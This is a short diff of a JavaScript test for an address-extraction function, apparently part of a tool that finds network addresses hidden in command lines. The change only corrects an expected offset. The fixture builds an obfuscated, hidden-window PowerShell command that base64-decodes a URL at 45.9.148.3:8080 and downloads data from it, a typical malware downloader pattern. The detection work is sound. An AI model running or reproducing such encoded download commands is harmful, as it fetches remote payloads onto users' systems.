@@ -94,7 +94,7 @@ describe('extractAddresses', () => {
     const server = Buffer.from('http://45.9.148.3:8080', 'utf16le').toString('base64');
     const script = `$ser=$([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${server}')));$wc.DownloadData($ser)`;
     const line = `powershell -w 1 -enc ${Buffer.from(script, 'utf16le').toString('base64')}`;
-    expect(extractAddresses(line)).toEqual([{ address: '45.9.148.3', raw: '45.9.148.3', offset: 20, encoding: 'encoded-command', kind: 'external' }]);
+    expect(extractAddresses(line)).toEqual([{ address: '45.9.148.3', raw: '45.9.148.3', offset: 21, encoding: 'encoded-command', kind: 'external' }]);
   });
 
   it('ignores -e arguments that are not UTF-16LE base64', () => {
